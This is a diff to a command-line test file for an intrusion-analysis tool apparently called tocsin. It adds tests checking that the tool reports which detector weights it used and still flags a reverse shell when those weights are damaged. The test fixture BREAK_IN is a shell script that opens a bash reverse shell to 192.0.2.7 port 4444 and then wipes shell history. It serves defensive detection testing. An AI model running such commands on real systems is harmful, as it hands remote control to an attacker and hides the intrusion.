@@ -7,11 +7,13 @@ usage: tests/cli/whole.py TOCSIN [NAME...]"""
 import hashlib
 import json
 import pathlib
+import shutil
 import sys
 
 from person import case, main, one_line, readable
 
-INTRUSION = pathlib.Path(__file__).resolve().parent.parent.parent / "examples" / "intrusion"
+ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
+INTRUSION = ROOT / "examples" / "intrusion"
 
 
 def report(person):
@@ -91,6 +93,46 @@ def what_is_no_report_is_refused(person):
             trace = person.run(*words, status=2)
             one_line(trace.err)
             assert trace.out == "", (words, content)
+
+
+BREAK_IN = """#!/bin/sh
+RHOST=192.0.2.7
+bash -c 'exec bash -i &>/dev/tcp/192.0.2.7/4444 <&1'
+rm -rf ~/.bash_history
+history -c
+"""
+
+
+def rules_of(person, status):
+    evidence = person.file("a.sh", BREAK_IN)
+    trace = person.run("analyze", evidence, "--format", "json", status=status)
+    found = json.loads(trace.out)
+    return found["tocsin"]["models"], {finding["rule"] for finding in found["findings"]}, trace.err
+
+
+@case
+def the_report_names_the_weights_it_was_made_with(person):
+    digest, rules, said = rules_of(person, 1)
+    assert digest == hashlib.sha256((ROOT / "models/sieve-shell.bin").read_bytes()).hexdigest()
+    assert "learned/shell" in rules and said == ""
+
+
+@case
+def damaged_weights_are_left_out_and_named(person):
+    place = person.folder / "installed"
+    place.mkdir()
+    suffix = person.program.name.removeprefix("tocsin")
+    for helper in ("", "-compile", "-examine", "-conclude"):
+        shutil.copy2(person.program.parent / f"tocsin{helper}{suffix}", place)
+    (place / "content").symlink_to(ROOT / "content")
+    weights = bytearray((ROOT / "models/sieve-shell.bin").read_bytes())
+    weights[len(weights) // 2] ^= 1
+    (place / "models").mkdir()
+    (place / "models" / "sieve-shell.bin").write_bytes(weights)
+    person.program = place / person.program.name
+    digest, rules, said = rules_of(person, 1)
+    assert digest == "" and "capability/reverse-shell" in rules and "learned/shell" not in rules
+    assert "models/sieve-shell.bin: the weights are damaged" in one_line(said)
 
 
 if __name__ == "__main__":
